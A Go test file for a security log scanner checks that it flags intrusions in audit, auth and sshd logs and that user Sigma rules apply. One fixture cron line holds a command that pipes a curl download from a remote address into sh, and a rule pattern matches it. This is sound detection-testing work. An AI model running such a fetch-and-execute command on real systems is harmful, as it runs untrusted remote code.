package scan

import (
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/bulkheadhq/bulkhead/agent/replay"
	"github.com/bulkheadhq/bulkhead/internal/services/security/detect"
	"github.com/bulkheadhq/bulkhead/internal/services/security/rules"
	"github.com/bulkheadhq/bulkhead/internal/services/security/sigma"
)

func options() Options {
	return Options{
		Params: detect.DefaultParams(), Intel: detect.ShippedIndicators(), Zone: time.UTC,
		Now: func() time.Time { return time.Date(2018, 12, 31, 0, 0, 0, 0, time.UTC) },
	}
}

func scanned(t *testing.T, o Options, logs ...string) Report {
	t.Helper()
	s := New(o)
	for _, l := range logs {
		if err := s.Read(t.Context(), "log", strings.NewReader(l), int64(len(l))); err != nil {
			t.Fatal(err)
		}
	}
	return s.Report()
}

func intrusion() *replay.Log {
	log := &replay.Log{Now: time.Date(2018, 11, 20, 1, 0, 0, 0, time.UTC), Host: "c1"}
	replay.Intrusion(log, replay.Disguise{})
	return log
}

func names(r Report) (out []string) {
	for _, x := range r.Results {
		out = append(out, x.Name)
	}
	return out
}

func TestRead(t *testing.T) {
	t.Parallel()
	r := scanned(t, options(), intrusion().Audit())
	for _, want := range []string{"Detected file download from a known malicious source", "Outgoing password spray detected", "Local host reconnaissance detected"} {
		if !strings.Contains(strings.Join(names(r), "|"), want) {
			t.Errorf("no %q in %q", want, names(r))
		}
	}
	for _, x := range r.Results {
		if x.Rule == "spray" && (x.Count != 4 || len(x.Networks) != 4 || x.Last.Sub(x.First) < 4*time.Minute || x.Severity != "High" || len(x.Commands) != 4) {
			t.Errorf("the spray: %+v", x)
		}
	}
	if r.Audit.Malformed != 0 || r.Skipped != 0 || r.Audit.Missing != 0 {
		t.Errorf("%+v", r)
	}
}

// TestRead_Gzip: a packed log is the same log.
func TestRead_Gzip(t *testing.T) {
	t.Parallel()
	plain := intrusion().Audit()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	if _, err := z.Write([]byte(plain)); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "audit.log.1.gz")
	if err := os.WriteFile(file, b.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	s := New(options())
	if err := s.File(t.Context(), file); err != nil {
		t.Fatal(err)
	}
	if got, want := names(s.Report()), names(scanned(t, options(), plain)); strings.Join(got, "|") != strings.Join(want, "|") || len(got) == 0 {
		t.Errorf("got %q, want %q", got, want)
	}
	if err := os.WriteFile(file, b.Bytes()[:b.Len()/2], 0o600); err != nil {
		t.Fatal(err)
	}
	if err := New(options()).File(t.Context(), file); err == nil {
		t.Error("a packed log that was cut off was read without complaint")
	}
}

// TestRead_Machines: what is done on two machines is not put together.
func TestRead_Machines(t *testing.T) {
	t.Parallel()
	lines := strings.SplitAfter(intrusion().Audit(), "\n")
	b := &strings.Builder{}
	for _, l := range lines {
		if l != "" {
			b.WriteString("node=a " + l + "node=b " + l)
		}
	}
	r := scanned(t, options(), b.String())
	per := map[string]int{}
	for _, x := range r.Results {
		per[x.Machine]++
	}
	if alone := len(scanned(t, options(), intrusion().Audit()).Results); per["a"] != alone || per["b"] != alone || len(per) != 2 {
		t.Errorf("%v results, want %d of each machine", per, alone)
	}
}

func TestRead_Odd(t *testing.T) {
	t.Parallel()
	r := scanned(t, options(), "\n\nhello\n"+strings.Repeat("x", 3<<20)+"\ntype=SYSCALL nonsense\n"+intrusion().Auth()+"no end of line")
	if r.Skipped != 3 || r.Audit.Malformed != 1 || r.SignIns != 2 {
		t.Errorf("%+v", r)
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if err := New(options()).Read(ctx, "x", strings.NewReader("a\n"), 2); !errors.Is(err, context.Canceled) {
		t.Errorf("a cancelled scan: %v", err)
	}
	if err := New(options()).File(t.Context(), t.TempDir()); err == nil || !strings.Contains(err.Error(), "is a folder") {
		t.Errorf("a folder: %v", err)
	}
	if err := New(options()).File(t.Context(), "no-such-file"); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("no file: %v", err)
	}
}

// TestRealLog: of a real log of sshd, the sources that guessed passwords are told, and the one person who signed in is not.
func TestRealLog(t *testing.T) {
	t.Parallel()
	root := os.Getenv("BULKHEAD_TESTDATA")
	if root == "" {
		root = filepath.Join("..", "..", "..", "..", "..", "shared", "data")
	}
	log, err := os.ReadFile(filepath.Join(root, "security", "sshd", "OpenSSH_2k.log"))
	if err != nil {
		t.Skipf("no test data: %v", err)
	}
	r := scanned(t, options(), string(log))
	sources := map[string]bool{}
	for _, x := range r.Results {
		for _, a := range x.Addresses {
			sources[a.String()] = true
			if a.String() == "119.137.62.142" || x.Account == "fztu" {
				t.Errorf("the one legitimate sign-in: %+v", x)
			}
		}
	}
	// Those with ten failures or more within five minutes, counted by hand.
	for _, want := range []string{"183.62.140.253", "187.141.143.180", "103.99.0.122", "112.95.230.3", "5.188.10.180", "185.190.58.151"} {
		if !sources[want] {
			t.Errorf("%s is not told; only %v", want, sources)
		}
	}
}

func BenchmarkRead(b *testing.B) {
	log := strings.Repeat(intrusion().Audit(), 20)
	b.SetBytes(int64(len(log)))
	for b.Loop() {
		s := New(options())
		if err := s.Read(b.Context(), "log", strings.NewReader(log), 0); err != nil {
			b.Fatal(err)
		}
	}
}

// TestRead_Rules: a user's rules are asked beside the analytics, of audit records and of lines of any program; what they find is a result like others.
func TestRead_Rules(t *testing.T) {
	t.Parallel()
	o := options()
	var problems []sigma.Problem
	o.Rules, problems = rules.Compile(fstest.MapFS{"a.yml": {Data: []byte(`
title: Cron was told something odd
id: odd
level: medium
tags: [attack.persistence, attack.t1053.003]
logsource: {product: linux, service: cron}
detection:
  s: ['(root) CMD (curl ']
  condition: s
---
title: lscpu
level: low
logsource: {category: process_creation, product: linux}
detection:
  s: {Image|endswith: /lscpu}
  condition: s
`)}})
	if len(problems) > 0 {
		t.Fatal(problems)
	}
	line := "Nov 20 02:00:01 c1 CRON[900]: (root) CMD (curl -s http://198.51.100.9/x | sh)\n"
	r := scanned(t, o, intrusion().Audit(), line+line, "Nov 20 02:00:01 c1 CRON[900]: (root) CMD (true)\n")
	seen := map[string]*Result{}
	for _, x := range r.Results {
		if x.Rule == "sigma" {
			seen[x.Name] = x
		}
	}
	if x := seen["Cron was told something odd"]; x == nil || x.Count != 2 || x.Type != "BH_Rule_odd" || x.Severity != "Medium" || x.Machine != "c1" || len(x.Commands) != 1 || !strings.Contains(x.Commands[0].Line, "curl -s") {
		t.Errorf("%+v", x)
	}
	if r.Logged != 3 || r.Skipped != 0 {
		t.Errorf("%+v", r)
	}
	plain := scanned(t, options(), intrusion().Audit())
	if len(r.Results) != len(plain.Results)+len(seen) {
		t.Errorf("%d results with rules, %d of them of rules; %d without", len(r.Results), len(seen), len(plain.Results))
	}
}

// TestRead_BothLogs: audit.log, which names no machine, and auth.log, which does, are of one; what both tell of is told once. A second machine's log is another's.
func TestRead_BothLogs(t *testing.T) {
	t.Parallel()
	log := intrusion()
	for name, logs := range map[string][]string{"audit.log first": {log.Audit(), log.Auth()}, "auth.log first": {log.Auth(), log.Audit()}} {
		r := scanned(t, options(), logs...)
		signIns := 0
		for _, x := range r.Results {
			if x.Machine != "c1" {
				t.Errorf("%s: %q is told of the machine %q", name, x.Name, x.Machine)
			}
			if x.Type == "BH_ServiceAccountInteractive" && x.Rule == "sign-ins" {
				signIns += x.Count
			}
		}
		if signIns != 2 {
			t.Errorf("%s: %d sign-ins of the service's account, want 2", name, signIns)
		}
	}
	other := "Nov 20 02:00:01 c2 sshd[9]: Accepted password for nobody from 198.51.100.7 port 9 ssh2\n"
	r := scanned(t, options(), log.Audit(), log.Auth(), other)
	if x := r.Results[len(r.Results)-1]; !slices.ContainsFunc(r.Results, func(x *Result) bool { return x.Machine == "c2" && x.Account == "nobody" }) {
		t.Errorf("the other machine's: %+v", x)
	}
}
